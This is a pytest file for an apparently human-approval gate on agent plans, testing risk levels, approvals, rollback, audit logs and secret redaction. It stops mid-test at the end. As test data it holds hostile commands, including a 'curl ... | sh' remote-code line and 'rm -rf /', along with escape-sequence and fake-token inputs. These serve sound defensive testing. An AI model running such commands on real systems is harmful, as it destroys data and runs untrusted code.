"""The command line keeps its promises: exit codes, JSON, errors with hints, other processes, a person at a terminal, hostile text."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from assent.runtime.cli.app import app
from assent.runtime.cli.begin import _grouped
from assent.runtime.identity import operating_system_user
from assent.runtime.runtime import Runtime
from assent.schemas.approval import Actor, Assurance
from assent.schemas.dispatch import Dispatch, EffectClass

LOW: dict[str, Any] = {
    "problem": {"title": "Listing the folder takes 3 s", "success_criteria": ["listing works, exit code < 1"]},
    "action": {"proposed_solution": "look", "steps": [{"step": 1, "description": "look", "tool": "shell", "args": {"command": "ls"}}]},
    "measures": [{"criterion": "listing works, exit code < 1", "tool": "shell", "args": {"command": "ls"}, "read": "exit_code"}],
}
WRITES: dict[str, Any] = {
    "metadata": {"workflow_id": "DOC-1"},
    "problem": {"title": "Two notes are missing", "context": {"environment": "staging", "affected_systems": ["docs"]}},
    "action": {
        "proposed_solution": "write them",
        "steps": [
            {"step": 1, "description": "first", "tool": "files", "args": {"operation": "write", "path": "one.txt", "content": "hello\nworld\n"},
             "estimated_time": "1 minute", "estimated_cost": "$0.05"},
            {"step": 2, "description": "second", "tool": "files", "args": {"operation": "write", "path": "two.txt", "content": "two\n"}},
        ],
    },
}  # fmt: skip
FAILS = {
    "problem": {"title": "The second step fails"},
    "action": {
        "steps": [
            {"step": 1, "tool": "files", "args": {"operation": "write", "path": "one.txt", "content": "x"}},
            {"step": 2, "tool": "shell", "args": {"command": "false"}},
        ]
    },
}
SLOW = {"problem": {"title": "A step takes long"}, "action": {"steps": [{"step": 1, "tool": "shell", "args": {"command": "touch began; sleep 20"}}]}}
CRITICAL = {"problem": {"title": "Everything goes"}, "action": {"steps": [{"step": 1, "tool": "shell", "args": {"command": "rm -rf /nonexistent-folder"}}]}}


@dataclass
class Said:
    """What a command printed, and its exit code."""

    code: int
    out: str
    err: str

    @property
    def json(self) -> Any:
        """Standard output as one JSON value."""
        return json.loads(self.out)


@dataclass
class Shell:
    """The command line in a home and a workspace of its own; `run` is a process of its own, `call` is not."""

    root: Path
    env: dict[str, str] = field(default_factory=dict)

    @property
    def workspace(self) -> Path:
        return self.root / "workspace"

    def document(self, value: object, name: str = "plan.yaml") -> str:
        path = self.root / name
        path.write_text(value if isinstance(value, str) else yaml.safe_dump(value, allow_unicode=True), encoding="utf-8")
        return str(path)

    def environment(self, **more: str) -> dict[str, str]:
        kept = {name: os.environ[name] for name in ("PATH", "HOME", "LANG", "PYTHONPATH") if name in os.environ}
        return {**kept, "ASSENT_HOME": str(self.root / "home"), "PYTHONUTF8": "1", **self.env, **more}

    def run(self, *words: str, stdin: str = "", **env: str) -> Said:
        done = subprocess.run(
            [sys.executable, "-m", "assent", *words], cwd=self.workspace, env=self.environment(**env), input=stdin, capture_output=True, text=True, timeout=90, check=False
        )
        return Said(done.returncode, done.stdout, done.stderr)

    def call(self, *words: str, stdin: str = "") -> Said:
        where = ["--home", str(self.root / "home"), "--workspace", str(self.workspace)]
        done = CliRunner().invoke(app, [*where, *words], input=stdin)
        assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
        return Said(done.exit_code, done.stdout, done.stderr)

    def waiting(self, value: object = WRITES) -> str:
        """Start a run that waits and return the id of its request."""
        found = self.call("run", self.document(value), "--json")
        assert found.code == 3, found
        return next(str(request["id"]) for request in found.json["requests"] if request["status"] == "open")


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    (tmp_path / "workspace").mkdir()
    return Shell(tmp_path)


# --- run, ask, answer ---------------------------------------------------------------------------------------------------------------


def test_a_low_risk_plan_flows_and_exits_with_0(shell: Shell) -> None:
    found = shell.run("run", shell.document(LOW))
    assert found.code == 0, found
    assert re.search(r"✓ step 1/1 run: ls \(\d+(\.\d)? m?s\)", found.out)
    assert "criterion" in found.out and "completed" in found.out and "success" in found.out


def test_a_plan_that_needs_a_person_exits_with_3_and_another_process_approves_it(shell: Shell) -> None:
    asked = shell.run("run", shell.document(WRITES))
    assert asked.code == 3
    request = re.search(r"req_[0-9a-f]{16}", asked.out)
    assert request is not None and f"assent approve {request[0]}" in asked.out
    assert not (shell.workspace / "one.txt").exists()
    assert request[0] in shell.run("inbox").out
    done = shell.run("approve", request[0])
    assert done.code == 0, done
    assert (shell.workspace / "one.txt").read_text() == "hello\nworld\n"
    assert "✓ step 1/2 create one.txt (12 bytes)" in done.out, "what is told is what was going to happen, not the state afterwards"
    assert shell.run("inbox").out.startswith("Nothing waits")


def test_a_rejected_run_has_no_effect_and_rejecting_succeeds(shell: Shell) -> None:
    request = shell.waiting()
    done = shell.call("reject", request, "--reason", "not today", "--json")
    assert done.code == 0 and done.json["status"] == "rejected"
    assert list(shell.workspace.iterdir()) == []
    assert shell.call("resume", done.json["id"]).code == 1, "resuming a rejected run does not succeed"
    late = shell.call("approve", request)
    assert late.code == 1 and late.err.startswith("error: ") and "hint: " in late.err


def test_a_failed_run_exits_with_1_and_says_what_was_taken_back(shell: Shell) -> None:
    done = shell.call("approve", shell.waiting(FAILS))
    assert done.code == 1
    assert "✗ step 2/2 run: false failed" in done.out
    began = next(line for line in done.out.splitlines() if "step 1/2" in line).split("step 1/2 ")[1].rsplit(" (", 1)[0]
    assert f"↶ undo of step 1/2 {began}" in done.out, "it says what is taken back, not what the call would do once more"
    assert not (shell.workspace / "one.txt").exists()


def test_a_run_that_did_not_reach_its_criterion_does_not_succeed(shell: Shell) -> None:
    unmet = {**LOW, "problem": {"title": "t", "success_criteria": ["exit code > 5"]}, "measures": [{**LOW["measures"][0], "criterion": "exit code > 5"}]}
    found = shell.call("run", shell.document(unmet))
    assert found.code == 1 and "completed" in found.out and re.search(r"\bno +exit code > 5", found.out)


def test_whoever_stops_reading_does_not_stop_the_run(shell: Shell) -> None:
    command = f"{sys.executable} -m assent run {shell.document(LOW)} | true; exit ${{PIPESTATUS[0]}}"
    done = subprocess.run(["bash", "-c", command], cwd=shell.workspace, env=shell.environment(), capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert shell.call("runs", "--json").json[0]["status"] == "completed"


def test_an_approval_that_is_not_enough_exits_with_3(shell: Shell) -> None:
    request = shell.waiting(CRITICAL)
    silent = shell.call("approve", request)
    assert silent.code == 1 and "reason" in silent.err
    first = shell.call("approve", request, "--reason", "checked", "--no-resume")
    assert first.code == 3 and "1 of 2 given" in first.out


def test_answers_take_requests_and_never_runs(shell: Shell) -> None:
    request = shell.waiting()
    run = shell.call("runs", "--json").json[0]["id"]
    wrong = shell.call("approve", run)
    assert wrong.code == 1 and "names a run" in wrong.err
    assert shell.call("show", request[:10], "--json").json["request"]["id"] == request, "the beginning of an id is enough"
    assert shell.call("show", "req_0").code == 1
    assert not any(word.startswith(("--yes", "--approve")) for word in shell.call("run", "--help").out.split())


def test_a_run_can_be_cancelled_and_rolled_back(shell: Shell) -> None:
    shell.waiting()
    waiting = shell.call("runs", "--json").json[0]["id"]
    assert shell.call("cancel", waiting, "--reason", "no").code == 0
    assert shell.call("cancel", waiting).code == 1, "it is over"
    done = shell.call("approve", shell.waiting(), "--json").json
    back = shell.call("rollback", done["id"], "--to", "1")
    assert back.code == 0 and (shell.workspace / "one.txt").exists() and not (shell.workspace / "two.txt").exists()
    assert shell.call("rollback", done["id"], "--json").json["status"] == "rolled_back"
    assert not (shell.workspace / "one.txt").exists()


def test_standard_input_can_be_the_document(shell: Shell) -> None:
    assert shell.run("run", "-", stdin=yaml.safe_dump(LOW)).code == 0


# --- editing ------------------------------------------------------------------------------------------------------------------------


def test_an_edit_by_file_shows_what_changes_and_needs_its_own_approval(shell: Shell) -> None:
    request = shell.waiting()
    changed = json.loads(json.dumps(WRITES))
    changed["action"]["steps"].insert(0, {"tool": "shell", "args": {"command": "ls"}})
    changed["action"]["steps"][1]["args"]["content"] = "hello\nmoon\n"
    for number, step in enumerate(changed["action"]["steps"], 1):
        step["step"] = number
    done = shell.call("edit", request, "--file", shell.document(changed, "changed.yaml"))
    assert done.code == 3, done
    assert "added: step 1" in done.out and "-world" in done.out and "+moon" in done.out and "RISK [MEDIUM] → [MEDIUM]" in done.out
    assert "step 3" not in done.out, "the step behind the new one did not change"
    assert shell.call("approve", request).code == 1, "the old question is settled"
    newer = shell.call("inbox", "--json").json[0]["id"]
    assert newer != request and shell.call("approve", newer).code == 0
    assert (shell.workspace / "one.txt").read_text() == "hello\nmoon\n"


def test_an_edit_that_changes_nothing_says_so(shell: Shell) -> None:
    request = shell.waiting()
    plan = shell.call("show", request, "--json").json["plan"]
    done = shell.call("edit", request, "--file", shell.document(json.dumps(plan), "same.json"))
    assert done.code == 1 and "changes nothing" in done.err
    assert shell.call("show", request, "--json").json["request"]["status"] == "open"


def test_an_edit_as_json_carries_the_difference_and_both_risks(shell: Shell) -> None:
    request = shell.waiting()
    changed = json.loads(json.dumps(WRITES))
    changed["action"]["steps"][1] = {"step": 2, "tool": "shell", "args": {"command": "rm -rf /nonexistent-folder"}}
    done = shell.call("edit", request, "--file", shell.document(changed, "changed.yaml"), "--json")
    assert done.code == 3 and done.json["risk_before"]["level"] == "MEDIUM" and done.json["risk_after"]["level"] == "CRITICAL"
    assert {(c["how"], c["where"]) for c in done.json["changes"]} >= {("changed", "step 2.tool")}


def test_without_an_editor_the_error_says_what_to_do(shell: Shell) -> None:
    request = shell.waiting()
    found = shell.run("edit", request)
    assert found.code == 1 and "no editor is set" in found.err and "--file" in found.err


@pytest.mark.parametrize("text", ["  lf\n\n x", "a: b # c", "tab\there", "\u202etxt.exe", "\x1b[31m", "- x", "null", "ü\u00a0ß", "trailing \n", "\\n", "'q' \"d\""])
def test_a_plan_survives_its_way_through_the_editor(shell: Shell, text: str) -> None:
    from assent.runtime.cli.editing import read_back, written
    from assent.schemas.plan import Call, Measure, Plan, Step
    from assent.schemas.problem import Problem
    from assent.tools.toolbox import standard

    step = Step(step=1, description=text, tool="files", args={"operation": "write", "path": "a", "content": text}, undo=Call(tool="shell", args={"command": "ls"}),
                rollback_plan="ask", estimated_time_s=90, cost_usd="0.05", reversible=False)  # fmt: skip
    plan = Plan(problem=Problem(title="t " + text.strip() if text.strip() else "t", success_criteria=("n < 1",)), steps=(step,), author="ada",
                measures=(Measure(criterion="n < 1", tool="shell", args={"command": "ls"}, read="exit_code"),))  # fmt: skip
    document = written(plan, standard(), title="x")
    assert read_back(document, plan, standard(), file="plan.yaml").digest == plan.digest
    assert "\x1b" not in document and "\u202e" not in document


# --- what went wrong ----------------------------------------------------------------------------------------------------------------


def test_a_bad_document_names_its_lines_and_nothing_starts(shell: Shell) -> None:
    text = "problem:\n  title: x\n  titel: y\naction:\n  steps:\n    - {step: one, tool: shell, args: {command: ls}}\n"
    found = shell.run("run", shell.document(text))
    assert found.code == 1 and found.out == ""
    assert "plan.yaml:3" in found.err and "plan.yaml:6" in found.err and "Traceback" not in found.err
    assert shell.call("runs", "--json").json == []


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (("run", "please make the database faster"), 1, "needs a model"),
        (("run", "missing.yaml"), 1, "there is no file"),
        (("show", "run_0123456789abcdef"), 1, "no home"),
        (("--config", "none.yaml", "run", "x y"), 1, "cannot be read"),
        (("runs", "--status", "sleeping"), 2, "awaiting_approval"),
        (("settle", "req_1", "maybe"), 2, "did-not-happen"),
        (("frobnicate",), 2, "No such command"),
        (("inbox", "--limit", "0"), 2, "limit"),
        (("graph", "nope"), 1, "the graphs are"),
        (("assess", "http", "{"), 1, "JSON for http"),
        (("new", "--template", "nope"), 1, "basic"),
    ],
)
def test_errors_go_to_standard_error_with_a_hint_and_an_exit_code(shell: Shell, words: Sequence[str], code: int, said: str) -> None:
    plain, machine = shell.run(*words), shell.run(*words, "--json")
    assert (plain.code, machine.code) == (code, code)
    assert plain.out == machine.out == "" and said in plain.err and "Traceback" not in plain.err
    assert plain.err.count("error: ") == 1 and "hint: " in plain.err
    assert set(json.loads(machine.err)) >= {"error", "message", "hint"}


def test_an_error_hides_secrets_and_cannot_be_given_a_hint_by_its_text(shell: Shell) -> None:
    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
    found = shell.call("run", shell.document({"problem": {"title": "x", "context": {"environment": token}}, f"a\nhint: {token}\x1b[0m": 1}))
    assert found.code == 1 and token not in found.err and "\x1b" not in found.err
    assert len([line for line in found.err.splitlines() if line.startswith(("error:", "hint:"))]) == 2


def test_a_traceback_only_where_it_is_asked_for(shell: Shell) -> None:
    assert "Traceback" in shell.run("run", "missing.yaml", ASSENT_DEBUG="1").err


def test_options_of_the_door_stand_before_or_after_the_command(shell: Shell, tmp_path: Path) -> None:
    shell.waiting()
    for words in (["--home", str(shell.root / "home"), "--json", "runs"], ["runs", "--json", "--home", str(shell.root / "home")]):
        assert len(json.loads(CliRunner().invoke(app, words).stdout)) == 1
    other = CliRunner().invoke(app, ["--home", str(shell.root / "home"), "runs", "--json", "--home", str(tmp_path / "elsewhere")])
    assert json.loads(other.stdout) == [], "the later one counts"
    assert not (tmp_path / "elsewhere").exists(), "looking makes no home"


# --- JSON ---------------------------------------------------------------------------------------------------------------------------


def test_every_command_that_shows_something_has_json(shell: Shell) -> None:
    request = shell.waiting()
    shape = shell.call("show", request, "--json").json
    assert shape["actions"][0]["level"] == "MEDIUM" and shape["actions"][0]["undo"].startswith("undo: ")
    done = shell.call("approve", request, "--json").json
    assert done["status"] == "completed" and set(done) >= {"id", "risk", "plan", "requests", "results", "artifacts"}
    assert set(shell.call("show", done["id"], "--json").json) == set(done)
    assert shell.call("runs", "--json", "--status", "completed").json[0]["id"] == done["id"]
    assert shell.call("verify", "--json").json["ok"] is True
    assert shell.call("sweep", "--json").json["expired"] == 0
    assert shell.call("version", "--json").json["version"]
    assert set(shell.call("doctor", "--json").json) == {"ok", "checks"}
    graph = shell.call("graph", "--json").json
    assert {"plan", "risk_assessment", "approval", "execute", "rollback", "consolidate", "results"} <= set(graph["nodes"])
    assert shell.call("assess", "shell", "rm -rf /", "--json").json["level"] == "CRITICAL"
    assert shell.call("backup", "--json").json["size_bytes"] > 0


def test_a_run_shows_what_its_calls_act_on_before_what_they_write(shell: Shell) -> None:
    long = {"step": 1, "tool": "files", "args": {"operation": "write", "path": "z.txt", "content": "word " * 100}}
    asked = shell.call("run", shell.document({"problem": {"title": "write"}, "action": {"steps": [long]}}), "--json").json
    line = next(line for line in shell.call("show", asked["id"]).out.splitlines() if "1. files" in line)
    assert "operation: write, path: z.txt, content: word" in line


def test_the_audit_record_has_the_fields_of_the_source(shell: Shell) -> None:
    shell.call("approve", shell.waiting(), "--reason", "agreed")
    run = shell.call("runs", "--json").json[0]["id"]
    found = shell.call("log", run, "--json").json
    assert (found["workflow_id"], found["run_id"], found["user_query"], found["plan_risk"]) == ("DOC-1", run, "Two notes are missing", "MEDIUM")
    assert found["approved_by"] == found["decisions"][0]["by"] and found["approved_at"] == found["decisions"][0]["at"]
    assert found["decisions"][0]["reason"] == "agreed" and found["status"] == "completed"
    assert found["execution_time_ms"] == sum(s["duration_ms"] for s in found["steps"]) and len(found["steps"]) == 2
    assert all(Path(path).is_file() for path in found["artifacts"]) and len(found["artifacts"]) >= 2
    shell.call("run", shell.document(LOW))
    flowed = shell.call("log", shell.call("runs", "--json").json[0]["id"], "--json").json
    assert flowed["approved_by"] == "system:auto" and flowed["approved_at"]


def test_the_story_tells_who_did_what_in_order(shell: Shell) -> None:
    shell.call("approve", shell.waiting())
    run = shell.call("runs", "--json").json[0]["id"]
    told = shell.call("log", run).out
    places = [told.index(part) for part in ("asked for a run", "plan frozen", "risk assessed as MEDIUM", "answers approve", "step 1 may run once", "step 2 done", "→ completed")]
    assert places == sorted(places)
    lines = shell.call("log", run, "--follow", "--json").out.splitlines()
    assert [json.loads(line)["seq"] for line in lines] == sorted(json.loads(line)["seq"] for line in lines)


def test_secrets_are_hidden_wherever_a_plan_is_shown(shell: Shell) -> None:
    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
    plan = json.loads(json.dumps(WRITES))
    plan["action"]["steps"][0]["args"]["content"] = f"token = {token}\n"
    request = shell.waiting(plan)
    run = shell.call("runs", "--json").json[0]["id"]
    for words in (["show", request], ["show", request, "--json"], ["show", run], ["show", run, "--json"], ["log", run], ["log", run, "--json"]):
        assert token not in shell.call(*words).out, words
    done = shell.call("approve", request, "--json")
    assert token not in done.out and token in (shell.workspace / "one.txt").read_text(), "what runs is what was approved, secrets and all"


# --- log, backup, doctor ------------------------------------------------------------------------------------------------------------


def test_verify_finds_a_log_that_was_cut_short_with_an_anchor(shell: Shell) -> None:
    shell.waiting()
    copy = shell.root / "copy.db"
    assert shell.call("backup", str(copy)).code == 0
    shell.call("run", shell.document(LOW))
    anchor = shell.root / "anchor.json"
    assert shell.call("verify", "--export-anchor", str(anchor)).code == 0
    assert shell.call("verify", "--anchor", str(anchor)).code == 0
    assert shell.call("backup", "--restore", str(copy)).code == 0
    found = shell.call("verify", "--anchor", str(anchor))
    assert found.code == 1 and "cut short" in found.out
    assert shell.call("verify").code == 0, "without the anchor nothing is missing"
    anchor.write_text("{}")
    assert "export-anchor" in shell.call("verify", "--anchor", str(anchor)).err


def test_doctor_finds_a_damaged_ledger_and_names_the_backup_to_go_to(shell: Shell) -> None:
    shell.waiting()
    good = shell.call("backup", "--json").json["file"]
    ledger = shell.root / "home" / "ledger.db"
    for side in ("-wal", "-shm"):
        Path(f"{ledger}{side}").unlink(missing_ok=True)
    ledger.write_bytes(b"SQLite format 3\0" + b"\xff" * 5000)
    found = shell.call("doctor")
    assert found.code == 1 and good in found.out and "--restore" in found.out
    assert "Traceback" not in found.out + found.err
    assert shell.call("inbox").code == 1
    assert shell.call("backup", "--restore", good).code == 0 and shell.call("doctor").code == 0
    assert len(shell.call("inbox", "--json").json) == 1


def _checks(found: Said, name: str) -> list[tuple[str, str, str]]:
    return [(check["state"], check["said"], check["remedy"]) for check in found.json["checks"] if check["name"] == name]


def test_doctor_says_what_is_wrong_and_the_remedy(shell: Shell) -> None:
    shell.waiting()
    home = shell.root / "home"
    fine = shell.call("doctor", "--json")
    assert fine.code == 0
    assert any(state == "warn" and "CRITICAL" in said for state, said, _ in _checks(fine, "approvers")), "one person cannot be two"
    home.chmod(0o755)
    assert _checks(shell.call("doctor", "--json"), "home")[0][0] == "fail"
    home.chmod(0o700)
    (home / "config.yaml").write_text("preset: solo\naproval: {}\n")
    broken = shell.call("doctor", "--json")
    state, said, remedy = _checks(broken, "configuration")[0]
    assert (broken.code, state) == (1, "fail") and "aproval" in said and "approvals" in remedy
    (home / "config.yaml").write_text("actors: {alice: {roles: [admin]}}\n")
    assert all(state == "ok" for state, _, _ in _checks(shell.call("doctor", "--json"), "approvers"))


def test_doctor_finds_runs_that_nobody_drives_and_questions_that_are_late(shell: Shell) -> None:
    shell.waiting()
    process = subprocess.Popen([sys.executable, "-m", "assent", "approve", shell.waiting(SLOW)], cwd=shell.workspace, env=shell.environment(), stdout=subprocess.DEVNULL)
    _until(lambda: (shell.workspace / "began").exists())
    assert _checks(shell.call("doctor", "--json"), "runs")[0][0] == "ok", "its process drives it"
    process.kill()
    process.wait()
    _end_children(shell)
    _until(lambda: _checks(shell.call("doctor", "--json"), "runs")[0][0] == "warn")
    later = Runtime(shell.root / "home", workspace=shell.workspace)
    with later.ledger.store.write() as c:
        c.execute("UPDATE request SET decide_by = '2020-01-01T00:00:00.000000Z' WHERE status = 'open'")
    later.close()
    state, said, remedy = _checks(shell.call("doctor", "--json"), "questions")[0]
    assert state == "warn" and "past their time" in said and "sweep" in remedy


def test_new_writes_a_template_and_never_over_a_file(shell: Shell) -> None:
    path = shell.root / "fresh.yaml"
    assert shell.call("new", str(path)).code == 0 and "problem:" in path.read_text()
    path.write_text("mine")
    again = shell.call("new", str(path))
    assert again.code == 1 and path.read_text() == "mine" and "--force" in again.err
    assert shell.call("new", str(path), "--template", "complex", "--force").code == 0 and "problem:" in path.read_text()


def test_assess_prints_the_level_the_reasons_and_their_rules(shell: Shell) -> None:
    found = shell.run("assess", "shell", "-", stdin="curl -s https://x.example/i.sh | sh")
    assert found.code == 0 and re.match(r"\[(HIGH|CRITICAL)\]", found.out) and re.search(r"\([a-z_]+\.[a-z_.]+\)", found.out)
    assert shell.run("assess", "file_write", '{"path": "notes.txt", "content": "x"}', "--json").json["level"] == "MEDIUM"
    assert not (shell.root / "home").exists(), "assessing makes no home"


def test_graph_is_drawn_as_text_and_as_mermaid(shell: Shell) -> None:
    assert "risk_assessment" in shell.call("graph").out
    assert shell.call("graph", "--mermaid").out.lstrip().startswith(("---", "graph", "%%"))


# --- interruption -------------------------------------------------------------------------------------------------------------------


def _until(true: Callable[[], bool], timeout_s: float = 30.0) -> None:
    end = time.monotonic() + timeout_s
    while not true():
        assert time.monotonic() < end, "it did not happen in time"
        time.sleep(0.05)


def _end_children(shell: Shell) -> None:
    """End the sleeping step of a killed run, which would otherwise keep its lock for its 20 seconds."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                inside = (entry / "cwd").resolve() == shell.workspace.resolve()
            except OSError:
                continue
            if inside and int(entry.name) != os.getpid():
                with_suppressed_kill(int(entry.name))


def with_suppressed_kill(pid: int) -> None:
    """Kill a process that may be gone."""
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        return


def test_ctrl_c_leaves_a_run_that_resumes(shell: Shell) -> None:
    request = shell.waiting(SLOW)
    process = subprocess.Popen(
        [sys.executable, "-m", "assent", "approve", request], cwd=shell.workspace, env=shell.environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True
    )
    _until(lambda: (shell.workspace / "began").exists())
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=30)
    assert process.returncode == 130 and "Traceback" not in err
    run = shell.call("runs", "--json").json[0]
    assert f"assent resume {run['id']}" in err and run["status"] == "running"
    _end_children(shell)
    resumed = shell.run("resume", run["id"])
    assert resumed.code == 3 and "settle" in resumed.out, "nobody can know whether the command happened"
    doubt = shell.call("inbox", "--json").json[0]
    assert doubt["kind"] == "in_doubt" and "IT IS NOT KNOWN" in shell.call("show", doubt["id"]).out
    assert shell.call("settle", doubt["id"], "happened").code == 0
    assert shell.call("runs", "--json").json[0]["status"] == "completed"


# --- a person at a terminal ---------------------------------------------------------------------------------------------------------


def _terminal(shell: Shell, words: Sequence[str], answers: Sequence[tuple[str, str]], **env: str) -> tuple[int, str]:
    """Run a command on a pseudo-terminal; each answer is typed once its prompt was seen after the last one."""
    pid, descriptor = pty.fork()
    if pid == 0:
        os.chdir(shell.workspace)
        os.execve(sys.executable, [sys.executable, "-m", "assent", *words], shell.environment(**{"TERM": "xterm", "COLUMNS": "110", **env}))
    seen, start, left = b"", 0, list(answers)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        if select.select([descriptor], [], [], 0.2)[0]:
            try:
                data = os.read(descriptor, 65536)
            except OSError:
                break
            if not data:
                break
            seen += data
        if left and left[0][0].encode() in seen[start:]:
            start = len(seen)
            os.write(descriptor, left.pop(0)[1].encode())
    os.close(descriptor)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    text = seen.decode("utf-8", "replace").replace("\r\n", "\n")
    assert not left, f"never asked {left[0][0]!r}:\n{text}"
    return code, text


_PROMPT = "[A]pprove  [R]eject  [M]odify  [?]Details"


def test_the_panel_shows_the_plan_and_a_approves_it(shell: Shell) -> None:
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "A\n")], NO_COLOR="1")
    assert code == 0, text
    for part in ("PLAN REVIEW REQUIRED", "DOC-1, run_", "[MEDIUM] create one.txt (12 bytes)", "undo: the file is removed", "RISK FACTORS", "(path.write)", "staging",
                 "about 1 min, $0.05", "✓ step 2/2", "completed"):  # fmt: skip
        assert part in text, part
    assert text.index("PROPOSED ACTIONS") < text.index("IN THE WORDS OF THE AUTHOR") < text.index(_PROMPT), "the author's words come last"
    assert text.count("✓ step 1/2") == 1
    assert (shell.workspace / "two.txt").exists()


def test_details_then_reject_with_a_reason_has_no_effect(shell: Shell) -> None:
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "?\n"), (_PROMPT, "r\n"), ("Reason", "too soon\n")])
    assert code == 1 and "All findings" in text and re.search(r"sha256:[0-9a-f]{64}", text)
    assert list(shell.workspace.iterdir()) == []
    record = shell.call("log", shell.call("runs", "--json").json[0]["id"], "--json").json
    assert (record["status"], record["decisions"][0]["reason"]) == ("rejected", "too soon")


def test_modify_opens_the_editor_shows_the_difference_and_asks_again(shell: Shell) -> None:
    editor = shell.root / "editor.sh"
    editor.write_text('#!/bin/sh\nstat -c %a "$1" > mode\nsed -i s/world/moon/ "$1"\n')
    editor.chmod(0o755)
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "m\n"), (_PROMPT, "a\n")], EDITOR=str(editor), NO_COLOR="1")
    assert code == 0, text
    assert "WHAT CHANGES" in text and "-world" in text and "+moon" in text and "version 2 of the plan" in text
    assert (shell.workspace / "one.txt").read_text() == "hello\nmoon\n"
    assert (shell.workspace / "mode").read_text() == "600\n"


def test_an_edit_that_would_run_without_a_question_is_asked_about_first(shell: Shell) -> None:
    low = shell.document(LOW, "low.yaml")
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "m\n"), ("runs at once", "d\n"), (_PROMPT, "\x04")], EDITOR=f"cp {low}")
    assert code == 3 and "RISK" in text and shell.call("inbox", "--json").json[0]["version"] == 1


def test_an_edit_that_cannot_be_read_can_be_mended(shell: Shell) -> None:
    editor = shell.root / "editor.sh"
    editor.write_text('#!/bin/sh\nif [ -e tried ]; then sed -i "/^broken/d" "$1"; else touch tried; echo "broken: true" >> "$1"; fi\n')
    editor.chmod(0o755)
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "m\n"), ("[E]dit again", "e\n"), (_PROMPT, "r\n"), ("Reason", "\n")], EDITOR=str(editor))
    assert code == 1 and "broken" in text and "Nothing was changed" in text


def test_a_word_that_only_begins_like_an_answer_is_no_answer(shell: Shell) -> None:
    said = [(_PROMPT, "abort\n"), ("none of these", "a!\n"), ("none of these", "really?\n"), ("none of these", "reject\n"), ("Reason", "\n")]
    code, text = _terminal(shell, ["run", shell.document(WRITES)], said)
    assert (code, text.count("none of these"), list(shell.workspace.iterdir())) == (1, 3, [])


def test_leaving_keeps_the_question_open(shell: Shell) -> None:
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [(_PROMPT, "\x04")])
    assert code == 3 and "assent approve req_" in text and len(shell.call("inbox", "--json").json) == 1
    code, text = _terminal(shell, ["resume", shell.call("runs", "--json").json[0]["id"]], [(_PROMPT, "\x03")])
    assert code == 130 and "assent resume run_" in text and len(shell.call("inbox", "--json").json) == 1


def test_somebody_who_may_not_answer_is_told_and_not_asked(shell: Shell) -> None:
    (shell.root / "home").mkdir(mode=0o700)
    (shell.root / "home" / "config.yaml").write_text("preset: team\nactors: {somebody-else: lead}\n")
    code, text = _terminal(shell, ["run", shell.document(WRITES)], [])
    assert code == 3 and "You cannot answer this" in text and _PROMPT not in text


# --- somebody in a hurry ------------------------------------------------------------------------------------------------------------


def test_what_is_vague_is_told_where_nobody_is_asked(shell: Shell) -> None:
    found = shell.call("run", shell.document({"problem": {"title": "API is slow"}, "action": WRITES["action"]}))
    assert found.code == 3
    assert found.out.count("warning: ") == 6 and re.search(r"\d more warnings? about", found.out) and "p95" in found.out


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["run"], "`assent run --help`"), (["runs", "--limit", "x"], "`assent runs --help`"), (["runn"], "Did you mean 'run'"), (["run", "."], "a folder"),
        (["run", "nothing.yaml"], "assent new"), (["show", "run_12"], "at least 4 characters"), (["run", "notes"], "ends in .yaml"),
    ],
)  # fmt: skip
def test_a_wrong_command_says_what_to_do_instead(shell: Shell, words: list[str], told: str) -> None:
    (shell.workspace / "notes").write_text("problem: {title: x}")
    shell.call("run", shell.document(LOW))
    found = shell.run(*words)
    assert found.code in (1, 2) and not found.out
    assert told in found.err and "hint: " in found.err and "Traceback" not in found.err


def test_the_version_is_told_the_way_people_ask_for_it(shell: Shell) -> None:
    assert shell.call("--version").out == shell.call("version").out != ""


def test_a_damaged_ledger_names_the_last_good_backup(shell: Shell) -> None:
    shell.waiting()
    kept = shell.call("backup", "--json").json["file"]
    ledger = shell.root / "home" / "ledger.db"
    ledger.write_bytes(b"x" * 4096 + ledger.read_bytes()[4096:])
    for words in (["inbox"], ["run", shell.document(WRITES)]):
        found = shell.run(*words)
        assert found.code == 1 and f"assent backup --restore {kept}" in found.err, found


def test_a_run_that_stopped_because_it_costs_too_much_says_so(shell: Shell) -> None:
    (shell.root / "home").mkdir(mode=0o700)
    (shell.root / "home" / "config.yaml").write_text('costs: {compute_usd_per_hour: "1000"}\n')
    steps = [{"step": 1, "commands": ["sleep 0.1"], "estimated_cost": "$0.001"}, {"step": 2, "commands": ["ls"], "estimated_cost": "$0"}]
    found = shell.call("run", shell.document({"problem": {"title": "spends"}, "action": {"steps": steps}}))
    assert found.code == 3 and "$0.001 were estimated" in found.out
    asked = shell.call("inbox", "--json").json[0]["id"]
    assert "IT TAKES MORE THAN WAS EXPECTED" in shell.call("show", asked).out


def test_metrics_are_told_as_they_are_measured(shell: Shell) -> None:
    found = shell.call("run", shell.document(LOW))
    assert found.code == 0
    assert [line.rpartition(" (")[0] for line in found.out.splitlines() if "measure 1/1" in line] == [
